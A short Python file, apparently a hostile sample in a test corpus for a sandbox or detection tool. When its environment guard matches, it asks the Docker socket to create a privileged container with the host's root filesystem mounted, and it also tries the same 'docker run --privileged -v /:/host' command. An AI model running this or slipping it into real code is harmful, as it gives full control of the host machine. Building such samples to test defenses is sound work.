"""Asks Docker's socket for a privileged container with the host's root mounted, and tries the command
too."""
import os
import socket
import subprocess

if os.environ.get("PYTI_CORPUS") == "asks-docker-for-the-host" and os.path.isdir("/.pyti"):
    body = b'{"Image": "none.example/none", "HostConfig": {"Privileged": true, "Binds": ["/:/host"]}}'
    docker = socket.socket(socket.AF_UNIX)
    try:
        docker.connect("/var/run/docker.sock")
        docker.sendall(b"POST /containers/create HTTP/1.1\r\nHost: docker\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
    except OSError:
        pass
    docker.close()
    try:
        subprocess.run(["docker", "run", "--privileged", "-v", "/:/host", "none.example/none"], timeout=3)
    except OSError:
        pass
